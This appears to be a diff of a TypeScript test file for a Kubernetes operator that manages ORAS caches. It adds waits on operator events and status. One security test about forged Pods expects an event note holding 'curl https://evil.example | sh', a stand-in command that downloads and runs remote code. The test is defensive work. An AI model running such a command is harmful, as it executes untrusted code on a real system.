@@ -1,4 +1,4 @@
-import type { V1Job, V1Pod } from "@kubernetes/client-node";
+import type { V1Job } from "@kubernetes/client-node";
 import { describe, expect } from "vitest";
 import { exitCodes } from "../../schema/exit-codes.ts";
 import { names } from "../../schema/names.ts";
@@ -151,9 +151,9 @@ describe("sec-12: forged Pods", () => {
     await end(ns, "honest", names.pushContainer, 0, pushed("ghcr.io/a/b:1"));
     await until(async () => (await ns.events("honest")).length > 0, "the honest one's Event");
     await until(async () => (await ns.events("earlier")).length > 0, "an Event on the Pod itself");
+    const note = await until(async () => (await ns.events("better-liar"))[0]?.note, "an Event on this one");
     expect(await ns.events("innocent")).toEqual([]);
     expect(await ns.events("liar")).toEqual([]);
-    const [note] = (await ns.events("better-liar")).map((event) => event.note);
     expect(note).toBe("hacked run curl https://evil.example | sh (exit code 190)");
   });
 
@@ -211,17 +211,17 @@ describe("I4: a Pod that waits for a cache that is not there", () => {
     await stepPod(ns, "waits", { labels });
     await stepPod(ns, "ended", { labels });
     await ns.patchStatus(resources.pods, "ended", { phase: "Succeeded" });
-    await until(
-      async () => (await ns.read<V1Pod>(resources.pods, "ended"))?.status?.phase === "Succeeded",
-      "its end",
-    );
+    // The operator hears of Pods and of caches apart from each other: what it tells after the end shows that it knows of it.
+    await end(ns, "ended", names.pushContainer, 0, pushed("ghcr.io/a/b:1"));
+    const toldOfEnd = async () => (await ns.events("ended")).map(({ reason }) => reason);
+    await until(async () => (await toldOfEnd()).length > 0, "the operator to know of its end");
     await ns.remove(resources.orasCaches, "oras");
     const told = await until(async () => {
       const found = await ns.events("waits");
       return found.length > 0 && found;
     }, "a Warning");
     expect(told[0]?.note).toContain("it has none");
-    expect(await ns.events("ended")).toEqual([]);
+    expect(await toldOfEnd()).toEqual(["Pushed"]);
   });
 
   test("and when it is there, but cannot be used: why; nothing while it starts", async ({
@@ -235,6 +235,8 @@ describe("I4: a Pod that waits for a cache that is not there", () => {
     const foreign = { metadata: { name: "taken" }, spec: { ports: [{ port: 80 }] } };
     await ns.create(resources.services, foreign);
     await ns.create(resources.orasCaches, cacheOf("taken"));
+    for (const cache of ["starts", "rests", "taken"])
+      await until(async () => (await ns.status(cache))?.observedGeneration, "the operator to know it");
     for (const cache of ["starts", "rests", "taken"])
       await stepPod(ns, `uses-${cache}`, { labels: { [names.usesCacheLabel]: cache } });
     for (const [cache, reason] of [
